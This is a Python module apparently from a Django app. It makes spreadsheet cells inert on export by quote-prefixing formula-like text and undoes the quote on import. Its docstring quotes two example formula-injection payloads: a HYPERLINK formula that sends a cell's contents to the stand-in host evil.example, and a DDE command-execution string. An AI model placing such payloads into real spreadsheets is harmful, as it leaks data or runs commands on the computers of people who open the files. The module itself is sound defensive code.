"""Every cell the product writes to an xlsx or CSV file goes through `export_cell`.

People's text reaches spreadsheets: a voter's title `=HYPERLINK("http://evil.example/?leak="&D4,
"点击查看详情")` or a name `=cmd|' /C calc'!A0` would be a live formula in Excel (in an xlsx,
openpyxl writes any text starting with `=` as a formula; in a CSV, Excel evaluates a cell
starting with `=`, `+`, `-`, `@`, tab or CR). OWASP's "CSV injection" rule: such text is
prefixed with a single quote, so it shows as text and runs nothing. Numbers, dates and
booleans stay what they are (a negative number stays a number; so does text that is just a
signed number, which Excel reads as that number and nothing more).

The same function drops the characters no spreadsheet can carry (`liaison.text.UNPRINTABLE`,
a superset of openpyxl's `ILLEGAL_CHARACTERS_RE`), so rows stored before input was cleaned
still export.

Imports undo the quote (`unescape_cell`, called by `liaison.importing.cells.cell_text`):
importing an exported file unchanged changes nothing.

django-import-export's own IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is not used: it only
deletes a leading `=` (changing the text, and leaving `+`, `-`, `@` live) and turns every
cell into text. The admin's exports apply this rule in `LiaisonResource.export_resource`.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from django.utils.functional import Promise

from liaison.text import UNPRINTABLE

#: what a formula starts with (after any leading whitespace)
FORMULA_START = frozenset("=+-@")
#: leading characters OWASP lists on their own (Excel skips them, then reads a formula)
CONTROL_START = frozenset("\t\r\n")
QUOTE = "'"
#: text that is only a signed number: Excel reads it as that number, nothing runs
SIGNED_NUMBER = re.compile(r"\s*[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\s*")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would read `text` as a formula."""
    if not text:
        return False
    if text[0] in CONTROL_START:
        return True
    head = text.lstrip()
    return bool(head) and head[0] in FORMULA_START and not SIGNED_NUMBER.fullmatch(head)


def _quoted(text: str) -> bool:
    # `'=x` as written by `export_cell`; also `''=x`, the export of a stored `'=x`.
    return text[:1] == QUOTE and is_formula_like(text.lstrip(QUOTE))


def export_cell(value):
    """A value as written to a cell: text made inert and printable, anything else unchanged."""
    if type(value) is not str:
        if not isinstance(value, (str, Promise)):
            return value  # numbers, dates, booleans, None
        value = str(value)
    if not value:
        return value
    if UNPRINTABLE.search(value):
        value = UNPRINTABLE.sub("", value)
    if is_formula_like(value) or _quoted(value):
        return QUOTE + value
    return value


def export_row(values: Iterable) -> list:
    """`export_cell` of every value of a row."""
    return [export_cell(value) for value in values]


def unescape_cell(text: str) -> str:
    """The text `export_cell` was given, from what it wrote (imports read their own exports)."""
    return text[1:] if _quoted(text) else text
